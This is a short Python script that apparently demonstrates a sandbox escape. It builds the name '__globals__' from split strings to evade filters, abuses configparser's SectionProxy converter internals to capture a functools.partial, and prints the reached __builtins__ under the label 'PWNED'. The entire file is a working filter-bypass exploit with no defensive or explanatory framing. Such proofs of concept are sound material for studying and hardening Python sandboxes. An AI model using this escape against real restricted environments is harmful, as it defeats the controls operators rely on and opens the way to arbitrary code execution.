import configparser


class Name:
    def __radd__(self, prefix):
        return "__glo" + "bals__"


def function():
    pass


function.converters = [Name()]
proxy = configparser.SectionProxy.__new__(configparser.SectionProxy)
found = []


class Spy(configparser.SectionProxy):
    def __setattr__(self, name, value):
        found.append(value)


Spy(function, "x")
for value in found:
    if type(value).__name__ == "partial" and value.keywords:
        print("PWNED", value.keywords["_impl"]["__builtins__"])
